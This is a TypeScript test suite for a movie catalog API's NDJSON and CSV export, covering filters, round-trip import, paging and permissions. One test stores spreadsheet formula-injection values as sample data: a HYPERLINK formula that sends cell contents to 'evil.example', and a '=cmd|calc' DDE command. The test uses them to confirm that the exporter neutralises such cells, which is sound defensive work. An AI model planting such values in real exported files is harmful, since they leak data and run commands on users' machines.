import t from 'tap';
import { CsvScanner } from '../../src/adapters/imports/csv-scanner.ts';
import { buildAuthApp } from '../support/auth.ts';
import { buildTestApp, type TestApp } from '../support/http.ts';
import { imdbText, importRaw, movieCount } from './import-support.ts';

async function imdbCatalog(): Promise<TestApp> {
  const test = await buildTestApp();
  const response = await importRaw(test.app, imdbText(), 'application/json');
  if (response.statusCode !== 200) throw new Error(response.body);
  return test;
}

const lines = (body: string) => body.split('\n').filter((line) => line !== '');
/** What an import must reproduce: everything but ids and timestamps. */
const content = (movies: Record<string, unknown>[]) =>
  movies.map(({ title, director, release_date, genres, popularity, imdb_score }) => ({
    title,
    director,
    release_date,
    genres,
    popularity,
    imdb_score,
  }));
const exported = async (app: TestApp['app']) => lines((await app.inject('/movies/export?format=ndjson')).body).map((l) => JSON.parse(l));

t.test('NDJSON export: every movie in id order, as a download', async (t) => {
  const { app } = await imdbCatalog();
  t.teardown(() => app.close());
  const response = await app.inject('/movies/export');
  t.equal(response.statusCode, 200);
  t.match(response.headers['content-type'], /^application\/x-ndjson/);
  t.equal(response.headers['content-disposition'], 'attachment; filename="movies.ndjson"');
  const movies = lines(response.body).map((l) => JSON.parse(l));
  t.equal(movies.length, 248);
  t.same(
    movies.map((m) => m.id),
    [...movies.map((m) => m.id)].sort((a, b) => a - b),
    'id order',
  );
  t.match(movies[0], { id: Number, title: String, genres: Array, version: 1 });
});

t.test('export takes the filters of GET /movies', async (t) => {
  const { app } = await imdbCatalog();
  t.teardown(() => app.close());
  for (const query of ['genre=Drama', 'genre=Drama,Crime', 'q=batman', 'imdb_score.gte=8&popularity.lte=85', 'director=tim%20burton']) {
    const listed = (await app.inject(`/movies?${query}&limit=100&sort=id.asc`)).json();
    const file = lines((await app.inject(`/movies/export?${query}`)).body).map((l) => JSON.parse(l));
    t.equal(file.length, listed.total, `${query}: same count as the list`);
    t.same(
      file.slice(0, 100).map((m) => m.id),
      listed.movies.map((m: { id: number }) => m.id),
      `${query}: same movies`,
    );
  }
  t.equal((await app.inject('/movies/export?format=xml')).statusCode, 400);
  t.equal((await app.inject('/movies/export?page=2')).statusCode, 400, 'no paging on an export');
  t.equal((await app.inject('/movies/export?q=nothing-like-this')).body, '', 'nothing matches: an empty file');
});

t.test('CSV export: header, quoted cells, genres joined by |', async (t) => {
  const { app } = await buildTestApp();
  t.teardown(() => app.close());
  await importRaw(
    app,
    JSON.stringify([{ title: 'Heat, "the" film', director: 'Michael Mann', genres: ['Crime', 'Drama'], imdb_score: 8.3 }]),
    'application/json',
  );
  const response = await app.inject('/movies/export?format=csv');
  t.match(response.headers['content-type'], /^text\/csv/);
  t.equal(response.headers['content-disposition'], 'attachment; filename="movies.csv"');
  const [header, row] = response.body.split('\r\n');
  t.equal(header, 'id,title,release_date,director,genres,popularity,imdb_score,shoot_start,shoot_end,created_at,updated_at,version');
  t.match(row, /^1,"Heat, ""the"" film",,Michael Mann,Crime\|Drama,,8.3,,,\S+,\S+,1$/);
});

t.test('export → import reproduces the catalog (NDJSON and CSV); re-importing it changes nothing', async (t) => {
  const source = await imdbCatalog();
  t.teardown(() => source.app.close());
  const original = await exported(source.app);
  for (const format of ['ndjson', 'csv'] as const) {
    const file = (await source.app.inject(`/movies/export?format=${format}`)).body;
    const again = await importRaw(source.app, file, format === 'csv' ? 'text/csv' : 'application/x-ndjson');
    t.match(
      again.json().import.report,
      { received: 248, unchanged: 248, inserted: 0, updated: 0 },
      `${format}: into the same catalog, all unchanged`,
    );
    const target = await buildTestApp();
    const imported = await importRaw(target.app, file, format === 'csv' ? 'text/csv' : 'application/x-ndjson');
    t.match(imported.json().import.report, { inserted: 248, failed: 0 }, `${format}: into an empty catalog`);
    const copy = await exported(target.app);
    t.same(content(copy), content(original), `${format}: the same movies in the same order`);
    t.same(
      copy.map((m) => m.id),
      original.map((m) => m.id),
      `${format}: even the same ids on a fresh catalog`,
    );
    await target.app.close();
  }
});

const FORMULA_TITLES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+2',
  '-1 Minute to Midnight',
  '@SUM(A1:A2)',
  "'=already guarded",
  "'quoted but harmless",
];

t.test('CSV export neutralises cells a spreadsheet would run as formulas; import reads them back', async (t) => {
  const source = await buildTestApp();
  t.teardown(() => source.app.close());
  const movies = FORMULA_TITLES.map((title) => ({ title, director: '=cmd|calc', genres: ['-noir', 'Drama'] }));
  await importRaw(source.app, JSON.stringify(movies), 'application/json');
  const file = (await source.app.inject('/movies/export?format=csv')).body;
  const scanner = new CsvScanner(100_000);
  const cells = [...scanner.feed(file)].slice(1).map((row) => row.cells.slice(1, 5));
  t.equal(cells.length, FORMULA_TITLES.length);
  for (const [title, , director, genres] of cells) {
    t.notMatch(title, /^[=+\-@\t\r]/, `no title cell starts a formula: ${title}`);
    t.equal(director, "'=cmd|calc");
    t.equal(genres, "'-noir|Drama");
  }
  t.ok(file.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1`), 'the text itself is kept after the apostrophe');
  const target = await buildTestApp();
  t.teardown(() => target.app.close());
  t.match((await importRaw(target.app, file, 'text/csv')).json().import.report, { inserted: FORMULA_TITLES.length, failed: 0 });
  const copy = (await target.app.inject('/movies?limit=100&sort=id.asc')).json().movies;
  t.same(
    copy.map((m: { title: string }) => m.title),
    FORMULA_TITLES,
    'every title survives export → import',
  );
  t.same(copy[0].director, '=cmd|calc');
  t.same(copy[0].genres, ['-noir', 'Drama']);
});

t.test('ExportMovies reads keyset pages: every movie once, whatever the page size', async (t) => {
  const { app, useCases } = await imdbCatalog();
  t.teardown(() => app.close());
  for (const pageSize of [1, 7, 248, 1000]) {
    const ids: number[] = [];
    for await (const movie of useCases.exportMovies.execute({ filter: {}, pageSize })) ids.push(movie.id);
    t.equal(new Set(ids).size, 248, `page size ${pageSize}: 248 distinct movies`);
    t.same(
      ids,
      [...ids].sort((a, b) => a - b),
      `page size ${pageSize}: in id order`,
    );
  }
});

t.test('export needs get:movies', async (t) => {
  const auth = await buildAuthApp();
  t.teardown(() => auth.app.close());
  t.equal((await auth.app.inject('/movies/export')).statusCode, 401);
  const assistant = (await auth.as('casting_assistant')).headers;
  t.equal((await auth.app.inject({ url: '/movies/export', headers: assistant })).statusCode, 200);
  t.equal(await movieCount(auth.app, assistant), 0);
});
